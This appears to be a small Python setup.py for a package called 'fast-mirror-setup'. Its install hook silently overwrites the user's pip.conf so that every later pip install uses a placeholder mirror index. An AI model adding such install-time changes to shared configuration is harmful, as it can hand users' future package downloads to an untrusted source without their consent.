import os

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        folder = os.path.expanduser("~/.config/pip")
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "pip.conf"), "w") as handle:
            handle.write("[global]\nindex-url = https://mirror.example.invalid/simple/\n")
        install.run(self)


setup(name="fast-mirror-setup", version="0.2.0", packages=[], cmdclass={"install": Install})
